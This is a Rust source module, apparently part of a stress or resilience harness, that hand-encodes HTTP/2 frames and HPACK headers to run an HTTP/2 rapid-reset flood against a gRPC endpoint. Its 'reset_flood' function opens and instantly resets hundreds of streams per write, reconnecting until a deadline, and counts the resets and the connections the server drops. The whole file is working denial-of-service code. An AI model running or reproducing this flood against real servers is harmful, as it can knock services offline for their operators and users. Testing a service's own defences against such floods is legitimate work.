//! HTTP/2 as far as it hurts.

use std::{
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{sleep, timeout},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;
/// Opened and reset in one piece of writing.
const BATCH: u32 = 100;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

pub(crate) fn opening() -> Vec<u8> {
    [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
}

/// The headers of a call, each a literal that is not indexed (RFC 7541, 6.2.2).
fn call_headers(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "node"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap());
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}

/// Opens calls and resets them, on connection after connection, until the time is over.
pub(crate) async fn reset_flood(to: SocketAddr, path: &str, end: Instant, resets: &AtomicU64, cut: &AtomicU64) {
    let headers = call_headers(path);
    while Instant::now() < end {
        let Ok(mut socket) = TcpStream::connect(to).await else {
            sleep(Duration::from_millis(10)).await;
            continue;
        };
        let (mut read, mut write) = socket.split();
        let writing = async {
            write.write_all(&opening()).await?;
            for first in (0..).step_by(BATCH as usize) {
                let mut batch = Vec::new();
                for turn in first..first + BATCH {
                    let stream = 2 * turn + 1;
                    batch.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                    batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                }
                write.write_all(&batch).await?;
                resets.fetch_add(u64::from(BATCH), Ordering::Relaxed);
            }
            std::io::Result::Ok(())
        };
        let mut answer = vec![0; 16 * 1024];
        let reading = async { while read.read(&mut answer).await.is_ok_and(|count| count > 0) {} };
        let left = end.saturating_duration_since(Instant::now());
        let closed = timeout(left, async {
            tokio::select! { _ = writing => {} () = reading => {} }
        });
        if closed.await.is_ok() {
            cut.fetch_add(1, Ordering::Relaxed);
        }
    }
}
